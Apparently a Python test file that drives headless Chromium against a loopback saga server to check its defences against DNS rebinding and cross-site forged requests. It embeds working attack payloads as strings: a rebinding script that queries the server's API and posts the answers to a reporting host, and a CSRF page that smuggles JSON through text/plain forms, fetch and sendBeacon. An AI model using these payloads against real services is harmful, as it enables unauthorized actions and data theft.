"""A real browser against a server on loopback: a page whose name is rebound to it, and forms of a foreign page."""
import glob
import http.server
import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import unittest

from support import UNSYNCED_ARGUMENTS, harness

CHROMIUM = shutil.which("chromium")
PAGES, REPORTS = "evil.test", "report.test"
# Every other name leads nowhere, and nothing is asked of the network on the browser's own account.
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--disable-domain-reliability", "--no-proxy-server", "--no-pings",
         "--disable-default-apps", "--disable-extensions", "--disable-breakpad", "--disable-dev-shm-usage", "--remote-debugging-port=0",
         "--disable-features=MediaRouter,OptimizationHints,Translate",
         f"--host-resolver-rules=MAP {PAGES} 127.0.0.1,MAP {REPORTS} 127.0.0.1,MAP * ~NOTFOUND,EXCLUDE 127.0.0.1"]

DEFINITION = json.dumps({"dsl": 1, "name": "browser.evil", "version": 1, "steps": [{"name": "v", "value": 1}]})
START = json.dumps({"definition": "browser.evil", "input": {}})

# Asks the server of its own origin again and again, and reports what came of it.
REBOUND = """<script>
async function ask(method, path, body) {
  try {
    const answer = await fetch(path, {method, body, headers: body ? {"Content-Type": "application/json"} : {}});
    const text = await answer.text();
    return {method, path, status: answer.status, text};
  } catch (error) { return {method, path, status: 0, text: String(error)}; }
}
async function run() {
  for (const one of [["GET", "/v1/sagas"], ["POST", "/v1/sagas", START]]) {
    const answer = await ask(...one);
    await fetch("REPORTS", {method: "POST", mode: "no-cors", body: JSON.stringify(answer)}).catch(() => {});
  }
  setTimeout(run, 200);
}
run();
</script>"""

# A body that is JSON, sent as text/plain without a preflight: by a form, and by scripts.
FORMS = """<form id="form" method="POST" enctype="text/plain" action="SERVER/v1/sagas" target="frame">
<input name='{"definition": "browser.evil", "input": {}, "x": "' value='"}'></form><iframe name="frame"></iframe>
<script>
document.getElementById("form").submit();
const plain = {method: "POST", mode: "no-cors", body: START};
fetch("SERVER/v1/sagas", plain).catch(() => {});
fetch("SERVER/v1/sagas", {...plain, headers: {"Content-Type": "text/plain"}}).catch(() => {});
navigator.sendBeacon("SERVER/v1/sagas", START);
fetch("SERVER/v1/sagas", {method: "POST", body: START, headers: {"Content-Type": "application/json"}}).catch(() => {});
</script>"""
# Those of FORMS that a browser sends: the last one asks first, and is told no.
SENT = 4


class Pages(http.server.ThreadingHTTPServer):
    """Serves one page on a given port and collects what is posted to it."""

    daemon_threads = True

    def __init__(self, page, port=0):
        pages, self.reports, self.served = self, [], threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(200 if self.path == "/" else 404, page.encode())
                if self.path == "/":
                    pages.served.set()

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"] or 0))
                if self.headers["Host"].startswith(REPORTS):
                    pages.reports.append(json.loads(body))
                self.answer(404, b"")

            def answer(self, status, body):
                self.send_response(status)
                for name, value in (("Content-Type", "text/html"), ("Content-Length", str(len(body))), ("Connection", "close")):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", port), Handler)
        self.thread = threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    def close(self):
        self.shutdown()
        self.thread.join()
        self.server_close()


def running_of_group(group):
    """Process ids. Those that have ended, and that a process 1 without the habit has not reaped, do not count."""
    running = []
    for path in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(path, encoding="utf-8", errors="replace") as file:
                state, _, process_group = file.read().rpartition(")")[2].split()[:3]
        except (FileNotFoundError, ProcessLookupError):
            continue
        if int(process_group) == group and state not in "ZX":
            running.append(int(path.split("/")[2]))
    return running


@unittest.skipUnless(CHROMIUM, "needs Chromium (Debian package chromium)")
class RealBrowser(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.postgres = harness.Postgres(harness.POSTGRES_UNSYNCED)
        cls.enterClassContext(cls.postgres)
        subprocess.run([harness.PROGRAM, "migrate", "--database", cls.postgres.url], check=True, stdout=subprocess.DEVNULL)

    def browse(self, url):
        profile = tempfile.TemporaryDirectory(prefix="backstitch-chromium-", ignore_cleanup_errors=True)
        self.addCleanup(profile.cleanup)
        environment = {name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")}
        process = subprocess.Popen([CHROMIUM, *FLAGS, f"--user-data-dir={profile.name}", url], stdin=subprocess.DEVNULL,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                   env={**environment, "HOME": profile.name}, start_new_session=True)
        self.addCleanup(self.stop, process)

    @staticmethod
    def stop(process):
        harness.stop_process(process)
        try:
            os.killpg(process.pid, signal.SIGKILL)
        except ProcessLookupError:
            return
        harness.wait_until(lambda: not running_of_group(process.pid), 20, "the browser's processes to end")

    def server(self, port, *arguments):
        server = harness.Server(self.postgres.url, port=port, arguments=[*UNSYNCED_ARGUMENTS, *arguments])
        self.enterContext(server)
        server.register_text(DEFINITION)
        return server

    def sagas(self):
        return int(self.postgres.query("select count(*) from backstitch.saga where definition = 'browser.evil'"))

    def rebind(self, *arguments):
        """A page is loaded by its name; then the name leads to the server. @return the answers that the page got of it"""
        collector = Pages("")
        self.addCleanup(collector.close)
        page = REBOUND.replace("START", json.dumps(START)).replace(
            "REPORTS", f"http://{REPORTS}:{collector.server_address[1]}/")
        port = harness.free_port()
        attacker = Pages(page, port)
        self.browse(f"http://{PAGES}:{port}/")
        try:
            self.assertTrue(attacker.served.wait(60), "the browser did not load the page")
        finally:
            attacker.close()
        self.server(port, *arguments)

        def answered():
            found = {r["method"]: r for r in list(collector.reports) if "code" in r["text"] or "id" in r["text"]}
            return found if len(found) == 2 else None
        return harness.wait_until(answered, 60, "the page to ask the server")

    def test_a_page_whose_name_is_rebound_to_the_server_is_told_nothing_and_starts_nothing(self):
        before = self.sagas()
        answers = self.rebind()
        for method in ("GET", "POST"):
            self.assertEqual(json.loads(answers[method]["text"])["code"], "host-refused", answers[method])
        self.assertEqual(self.sagas(), before)

    def test_the_same_page_would_start_a_saga_if_its_name_were_the_servers(self):
        answers = self.rebind("--host", PAGES)
        self.assertEqual(answers["POST"]["status"], 201, answers)

    def test_forms_and_scripts_of_a_foreign_page_start_nothing(self):
        server, before = self.server(harness.free_port()), self.sagas()
        page = Pages(FORMS.replace("START", json.dumps(START)).replace("SERVER", server.url))
        self.addCleanup(page.close)
        self.browse(f"http://{PAGES}:{page.server_address[1]}/")

        def refused():
            metrics = server.api("GET", "/metrics")[1]
            counts = [line.rsplit(" ", 1) for line in metrics.splitlines()
                      if line.startswith("backstitch_http_refusals_total") and "origin-refused" in line]
            return sum(int(float(count)) for _, count in counts) >= SENT
        harness.wait_until(refused, 60, "the page's requests to be refused")
        self.assertEqual(self.sagas(), before)


if __name__ == "__main__":
    unittest.main(verbosity=2)
